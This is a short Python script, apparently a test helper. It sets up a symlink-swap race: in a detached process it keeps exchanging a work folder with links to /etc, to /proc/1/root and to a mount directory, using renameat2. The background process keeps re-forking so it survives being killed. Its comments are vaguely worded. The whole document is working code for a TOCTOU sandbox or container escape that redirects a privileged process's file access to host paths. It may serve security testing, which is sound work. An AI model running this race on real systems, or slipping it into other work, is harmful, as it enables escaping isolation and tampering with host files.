# In the background: gives two folders each other's names, and has the name of one lead elsewhere, again and again. A chain
# of processes does it, so that those that were stopped are followed by others. It says "ready" first.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2


def swap(one, other):
    libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)


def play():
    while True:
        if os.fork():
            os._exit(0)
        for _ in range(20):
            # A folder for another one, a link to the system's, a link out, what looks like the window's own mounts.
            for other in ("b", "link", "out", "window"):
                swap("/work/a", f"/work/{other}")
                swap("/work/a", f"/work/{other}")
            swap("/work/a", "/work/b")


for name, text in (("a", "one"), ("b", "two")):
    os.makedirs(f"/work/{name}")
    with open(f"/work/{name}/name", "w", encoding="ascii") as file:
        file.write(f"{text}\n")
os.symlink("/etc", "/work/link")
os.symlink("../../../../../../proc/1/root", "/work/out")
os.symlink("/mnt/work", "/work/window")
if os.fork() == 0:
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    play()
print("ready")
